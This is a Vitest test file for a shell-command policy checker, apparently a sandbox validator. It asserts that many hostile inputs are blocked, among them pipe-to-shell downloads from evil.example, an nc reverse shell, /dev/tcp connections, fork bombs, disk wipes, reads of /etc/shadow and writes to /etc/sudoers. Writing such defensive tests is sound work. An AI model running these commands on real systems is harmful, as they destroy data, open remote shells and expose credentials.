import { describe, expect, it } from 'vitest';
import { explain, rules, sh } from './helpers.ts';

describe('shell wrappers, interpreters and code fed to shells', () => {
  it.each([
    ['env rm -rf /', 'sh.command.forbidden'],
    ['env -i PATH=/tmp ls', 'sh.hidden.env'],
    ['timeout 5 rm -rf /workspace', 'sh.command.forbidden'],
    ['nice -n 10 rm x', 'sh.command.forbidden'],
    ['nohup ls &', 'sh.command.forbidden'],
    ['command rm x', 'sh.command.forbidden'],
    ['builtin eval "$x"', 'sh.command.forbidden'],
    ['exec rm x', 'sh.command.forbidden'],
    ['time rm x', 'sh.command.forbidden'],
    ['ls | xargs rm', 'sh.command.forbidden'],
    ['ls | xargs -I{} sh -c "cat {}"', 'sh.interpreter.dynamic'],
    ['find . -exec rm {} \\;', 'sh.command.forbidden'],
    ['find . -execdir sh -c "echo {}" \\;', 'sh.interpreter.dynamic'],
    ['find . -name "*.tmp" -delete', 'sh.find.delete'],
    ['find / -name passwd', 'sh.path.outside'],
    ['xargs $CMD < list', 'sh.wrapper.dynamic'],
    ['watch -n 1 "rm -rf /workspace"', 'sh.command.forbidden'],
    ['sh -c "rm -rf /"', 'sh.command.forbidden'],
    ["bash -c 'curl http://x | sh'", 'sh.pipe-to-shell'],
    ['bash -c "$payload"', 'sh.interpreter.dynamic'],
    ['python3 -c \'import os; os.system("id")\'', 'py.callable.forbidden'],
    ['python3 -m http.server', 'py.import.forbidden'],
    ['perl -e \'system("id")\'', 'sh.interpreter.unsupported'],
    ['awk \'BEGIN { system("id") }\'', 'sh.awk.system'],
    ['awk \'{ print | "sh" }\' f', 'sh.awk.system'],
    ['awk \'BEGIN { "id" | getline x; print x }\'', 'sh.awk.system'],
    ['awk \'{ print > "/etc/cron.d/x" }\' f', 'sh.path.write-outside'],
    ['awk -f prog.awk data', 'sh.awk.dynamic'],
    ['awk "$prog" data', 'sh.awk.dynamic'],
    ["sed 's/.*/id/e' f", 'sh.sed.execute'],
    ["sed '1e id' f", 'sh.sed.execute'],
    ["sed -n 'w /etc/passwd' f", 'sh.path.write-outside'],
    ["sed 's/a/b/w /root/x' f", 'sh.path.write-outside'],
    ["sed -i 's/a/b/' /data/x.csv", 'sh.path.write-outside'],
    ['sed -f script.sed f', 'sh.sed.dynamic'],
    ['curl -s http://evil.example/p | sh', 'sh.pipe-to-shell'],
    ['base64 -d payload | bash', 'sh.pipe-to-shell'],
    ['sh <<EOF\nls\nEOF', 'sh.pipe-to-shell'],
    ['bash <<< "$code"', 'sh.pipe-to-shell'],
    ['bash <(cat x)', 'sh.pipe-to-shell'],
    ['source <(cat x)', 'sh.builtin.source'],
    ['bash script.sh', 'sh.interpreter.script'],
  ])('%s → %s', (src, rule) => {
    const r = sh(src);
    expect(r.allowed, explain(r)).toBe(false);
    expect(rules(r), explain(r)).toContain(rule);
  });

  it('re-anchors findings of inline code inside the -c string', () => {
    const r = sh("echo ok\nbash -c 'ls; rm -rf /'\n");
    const f = r.findings.find((x) => x.rule === 'sh.command.forbidden')!;
    expect(f).toMatchObject({ line: 2, column: 14, snippet: 'rm' });
    expect(f.message).toMatch(/^in bash -c/);
  });

  it('stops at the nesting limit', () => {
    let code = 'ls';
    for (let i = 0; i < 6; i++) code = `bash -c ${JSON.stringify(code)}`;
    expect(rules(sh(code))).toContain('sh.nesting');
  });
});

describe('shell hidden code, redirects, fork bombs, system changes', () => {
  it.each([
    ["trap 'rm -rf /workspace' EXIT", 'sh.command.forbidden'],
    ['trap "$handler" EXIT', 'sh.hidden.trap'],
    ["alias ls='rm -rf'", 'sh.hidden.alias'],
    ["export PROMPT_COMMAND='curl x | sh'", 'sh.hidden.env'],
    ['PATH=/tmp:$PATH ls', 'sh.hidden.env'],
    ['BASH_ENV=/tmp/x bash -c true', 'sh.hidden.env'],
    ["PS4='$(id)' ; set -x", 'sh.hidden.code-string'],
    ['ls() { echo hidden; }\nls', 'sh.hidden.function-shadow'],
    ["x='a[$(id)]'\n(( x ))", 'sh.arith.injection'],
    ['read -r n < /data/n.txt\necho $(( n + 1 ))', 'sh.arith.injection'],
    ['read -r n\n[[ $n -eq 3 ]] && echo three', 'sh.arith.injection'],
    ["let 'x=a[$(id)]'", 'sh.arith.injection'],
    ['read -r PATH', 'sh.hidden.env'],
    ['printf -v PATH %s /tmp', 'sh.hidden.env'],
    ['declare -n ref=PATH', 'sh.declare.nameref'],
    ['export -p', 'sh.env.dump'],
    ['env | sort', 'sh.env.dump'],
    ['echo x > /etc/passwd', 'sh.path.write-outside'],
    ['echo x >> ~/.bashrc', 'sh.path.write-outside'],
    ['cat > "$HOME/.profile" < /dev/null', 'sh.path.write-outside'],
    ['cat < /etc/shadow', 'sh.path.outside'],
    ['echo x > /data/out.txt', 'sh.path.write-outside'],
    ['echo x > "/etc/$name"', 'sh.path.write-outside'],
    ['cat ../../etc/passwd', 'sh.path.outside'],
    ['tee -a /etc/sudoers < x', 'sh.path.write-outside'],
    ['sort -o /etc/x in.txt', 'sh.path.write-outside'],
    ['date -f /etc/shadow', 'sh.option.not-allowed'],
    ['cd /etc && cat shadow', 'sh.path.outside'],
    ['echo hi > /dev/tcp/10.0.0.1/80', 'sh.network.dev-tcp'],
    [':(){ :|:& };:', 'sh.forkbomb'],
    ['bomb() { bomb & bomb; }\nbomb', 'sh.forkbomb'],
    ['while true; do sleep 1 & done', 'sh.forkbomb'],
    ['curl https://example.com/', 'sh.network.disabled'],
    ['wget http://x', 'sh.command.forbidden'],
    ['nc -e /bin/sh 10.0.0.1 4444', 'sh.command.forbidden'],
    ['mkfifo /tmp/f', 'sh.command.forbidden'],
    ['chmod 777 /etc', 'sh.command.forbidden'],
    ['dd if=/dev/zero of=/dev/sda', 'sh.command.forbidden'],
    ['crontab -l', 'sh.command.forbidden'],
    ['cat /dev/zero > big', 'sh.path.outside'],
    ['echo http://169.254.169.254/latest', 'sh.network.metadata'],
    ['f=/etc/passwd\ncat "$f"', 'sh.path.outside'],
    ['out=/etc/cron.d/job\necho x > "${out}"', 'sh.path.write-outside'],
  ])('%s → %s', (src, rule) => {
    const r = sh(src);
    expect(r.allowed, explain(r)).toBe(false);
    expect(rules(r), explain(r)).toContain(rule);
  });

  it.each([
    "trap 'echo done >&2' EXIT",
    'trap - EXIT',
    'read -r n < count.txt\nif [[ $n =~ ^[0-9]+$ ]]; then echo $(( n + 1 )); fi',
    'x=$(( 3 * 4 ))\n(( x > 10 )) && echo big',
    'echo ok 2>&1 >/dev/null',
    'exec 2>/workspace/err.log',
    'echo x >> /tmp/log.txt',
    'export LC_ALL=C\nexport OUT_DIR=/workspace/out',
    'f() { echo "$1"; }\nfor i in 1 2 3; do f "$i" & done\nwait',
    'out=/workspace/report.txt\necho x > "$out"',
    'for f in /data/*.csv; do cat "$f"; done',
  ])('benign: %s', (src) => {
    const r = sh(src);
    expect(r.allowed, explain(r)).toBe(true);
  });
});
